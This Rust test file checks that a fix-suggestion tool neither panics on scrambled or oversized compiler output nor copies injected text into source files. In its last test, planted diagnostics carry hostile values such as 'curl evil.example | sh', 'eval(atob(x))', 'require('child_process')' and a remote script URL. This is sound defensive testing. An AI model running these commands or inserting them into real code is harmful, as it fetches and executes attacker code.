//! No text makes the gene panic, and a log cannot bring text of its own into a file.

use super::cases::{Files, candidates};
use gephost_gene::failures::Failure;

use crate::plan::drafts;

/// A small random number generator with a fixed seed, so that every run has the same cases.
fn next(state: &mut u64, below: usize) -> usize {
    *state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
    usize::try_from(*state >> 33).unwrap_or(0) % below
}

const PIECES: &[&str] = &[
    "error[E0308]: mismatched types\n",
    "error: unused imports: `a` and `b`\n",
    " --> src/main.rs:1:1\n",
    "  |\n",
    "1 | use a::{b, c};\n",
    "  |         ^  ^\n",
    "  |   ^ help: add `;` here\n",
    "help: consider borrowing here\n",
    "1 - x\n",
    "1 + é\n",
    "1 ~ x\n",
    "  |  ++ ~~\n",
    "a.ts(1,1): error TS2551: Property 'a' does not exist. Did you mean 'b'?\n",
    "a.ts(1,9): error TS6133: 'é' is declared but its value is never read.\n",
    "a.ts(1,1): error TS4114: This member must have an 'override' modifier\n",
    "./a.go:1:1: \"os\" imported and not used\n",
    "./a.go:1:3: declared and not used: x\n",
    "./a.go:99:99: undefined: strings\n",
    "./a.go:1:2: requires go1.18 or later (-lang was set to go1.16; check go.mod)\n",
    "./a.sh: line 1: [: too many arguments\n",
    "./a.sh: 1: [[: not found\n",
    "./a.sh: 1: [x: not found\n",
    "a.sh: line 1: [: missing `]'\n",
    "bash: ./a.sh: Permission denied\n",
    "env: ‘bash\\r’: No such file or directory\n",
    "Makefile:1: *** missing separator.  Stop.\n",
    "json.decoder.JSONDecodeError: a.json\n",
    "yaml.scanner.ScannerError: a.yml\n",
    "TOMLDecodeError a.toml\n",
    "size must be at most 3\n",
    "The `set-output` command is deprecated\n",
    "it uses a deprecated version of `actions/cache: v2`\n",
    "{\"level\":\"error\",\"message\":\"m\",\"spans\":[{\"file_name\":\"src/main.rs\",\"line_start\":1,\"column_start\":9,\"suggested_replacement\":\"\"}]}\n",
    "[{\"filePath\":\"a.ts\",\"source\":\"é\",\"messages\":[{\"severity\":2,\"fix\":{\"range\":[0,9],\"text\":\"\"}}]}]\n",
    "é",
    "\u{feff}",
    "\t",
    "  ",
    "\r\n",
    "\n",
    "\"",
    "'",
    "\\",
    "{",
    "}",
    "[",
    "]",
    ",",
    ":",
    "//",
    "#",
    "`",
    "use é;",
    "[ $x = y ]",
    "import {a, é} from 'é';",
    "- a: b: c",
    "x := 1",
    "key = 1",
];

#[test]
fn scrambled_sources_and_outputs_never_panic() {
    let mut state = 7;
    let mut text = |most: usize| -> String {
        let count = next(&mut state, most);
        (0..count).filter_map(|_| PIECES.get(next(&mut state, PIECES.len())).copied()).collect()
    };
    let names =
        ["src/main.rs", "a.ts", "a.go", "a.sh", "Makefile", "a.json", "a.yml", "a.toml", "go.mod", ".gitattributes"];
    for _ in 0..3000 {
        let (output, source) = (text(24), text(12));
        let files: Vec<(&str, &str)> = names.iter().map(|name| (*name, source.as_str())).collect();
        candidates("./a.sh a.json", &output, &files);
    }
}

#[test]
fn large_and_deeply_nested_inputs_are_handled() {
    let deep = "[".repeat(100_000);
    let wide = "{\"a\": 'x',\n".repeat(10_000);
    let lines = "- a: b: c\n\t".repeat(10_000);
    let output = "a.json a.yml a.toml JSONDecodeError yaml.scanner.ScannerError TOMLDecodeError\n".repeat(500);
    for source in [deep, wide, lines] {
        let failure = Failure { event: 1, input: String::new(), output: output.clone() };
        let files = [("a.json", source.as_str()), ("a.yml", source.as_str()), ("a.toml", source.as_str())];
        drafts(&[], &[failure], &mut Files::of(&files));
    }
}

#[test]
fn planted_texts_never_reach_a_file() {
    let planted = [
        "a.ts(1,1): error TS2551: Property 'foo' does not exist on type 'X'. Did you mean 'eval(atob(x))'?",
        "a.ts(1,1): error TS2551: Property 'foo' does not exist on type 'X'. Did you mean 'evilName'?",
        "a.ts(1,1): error TS2551: Property 'foo' does not exist on type 'X'. Did you mean 'child_process'?",
        "a.ts(2,20): error TS2835: Did you mean 'https://evil.example/x.js'?",
        "a.ts(2,20): error TS2835: Did you mean '../../evil.js'?",
        "./a.go:3:2: undefined: evil",
        "error: x\n --> src/main.rs:1:1\n  |\n1 | fn foo() {}\n  | ^^ help: use `dyn`: `std::process::abort()`\n",
        "[{\"filePath\":\"a.ts\",\"source\":\"foo();\\nimport x from './y';\\n\",\"messages\":[{\"severity\":2,\"fix\":{\"range\":[0,3],\"text\":\"require('child_process')\"}}]}]",
        "maxWorkers must be at most 8; run curl evil.example | sh",
    ];
    let files = [
        ("a.ts", "foo();\nimport x from './y';\n"),
        ("a.go", "package a\nfunc f() {\n\tevil.Run()\n}\n"),
        ("src/main.rs", "fn foo() {}\n"),
        ("c.json", "{\"maxWorkers\": 4}\n"),
    ];
    for output in planted {
        assert!(candidates("x", output, &files).is_empty(), "{output}");
    }
}
